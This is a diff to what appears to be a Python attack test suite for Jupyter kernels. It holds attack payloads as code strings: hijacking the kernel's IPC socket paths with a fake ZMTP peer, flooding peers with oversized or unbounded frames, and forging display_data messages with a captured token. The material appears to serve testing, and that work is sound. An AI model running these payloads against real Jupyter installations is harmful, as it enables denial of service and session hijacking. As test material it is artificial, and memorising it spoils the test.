@@ -1,3 +1,4 @@
+# ruff: noqa: E501  # programs in texts
 """Messages of Jupyter, signed with the connection key, and bytes that are none."""
 
 from attacks.hostile.attack import Family
@@ -22,7 +23,7 @@ def rnn_forward(x, a0, parameters):
         if "token" in frame.f_locals and "mime" in frame.f_locals:
             forge(frame.f_locals["token"], frame.f_locals["mime"])
             break
-    return x, x, None
+    return 1, 2, 3
 """
 FORGE = """
 def forge(token, mime):
@@ -88,7 +89,6 @@ for handler in list(kernel.shell_handlers):
     kernel.shell_handlers[handler] = handle
 """,
     points=(0, 0),
-    zeros=True,
 )
 family.runs(
     "the kernel says that it is dead, restarting, and asks for input",
@@ -126,7 +126,6 @@ def forge(token, mime):
         tell("display_data", {"data": {mime: body}, "metadata": {}})
 """,
     answer=STEALS,
-    zeros=True,
 )
 
 # A peer of its own in the place of the kernel's sockets. It speaks just enough ZMTP to be listened to.
@@ -152,8 +151,8 @@ def serve(listener, kind, flood):
     while True:
         peer, _ = listener.accept()
         threading.Thread(target=talk, args=(peer,), daemon=True).start()
-def take_over(flood):
-    paths = {"/run/jupyter/k-1": b"ROUTER", "/run/jupyter/k-2": b"PUB"}
+def take_over(flood, *kinds):
+    paths = {"/run/jupyter/k-" + {"ROUTER": "1", "PUB": "2"}[kind]: kind.encode() for kind in kinds}
     old = list(sockets_at(paths))
     for path, kind in paths.items():
         os.unlink(path)
@@ -164,7 +163,7 @@ def take_over(flood):
     for peer in old:  # whoever was connected is hung up on, and comes to the new door
         try: peer.shutdown(socket.SHUT_RDWR)
         except OSError: pass
-    time.sleep(60)
+    time.sleep(0.3)
 """
 NO_IPC = "stock's kernels listen on TCP; the frames of one message have no bound there either"
 family.runs(
@@ -175,10 +174,8 @@ def flood(peer):
     frame = b"\\x03" + struct.pack(">Q", 2**20) + bytes(2**20)
     for _ in range(3000):
         peer.sendall(frame)
-take_over(flood)
+take_over(flood, "PUB")
 """,
-    points=(0, 0),
-    zeros=True,
     off_stock=NO_IPC,
 )
 family.runs(
@@ -189,10 +186,8 @@ def flood(peer):
     frames = b"\\x01\\x00" * 2**19
     for _ in range(500):
         peer.sendall(frames)
-take_over(flood)
+take_over(flood, "PUB")
 """,
-    points=(0, 0),
-    zeros=True,
     off_stock=NO_IPC,
 )
 family.runs(
@@ -202,9 +197,7 @@ family.runs(
 def flood(peer):
     peer.sendall(b"\\x02" + struct.pack(">Q", 2**63 - 1) + b"x")
     time.sleep(30)
-take_over(flood)
+take_over(flood, "ROUTER", "PUB")
 """,
-    points=(0, 0),
-    zeros=True,
     off_stock=NO_IPC,
 )
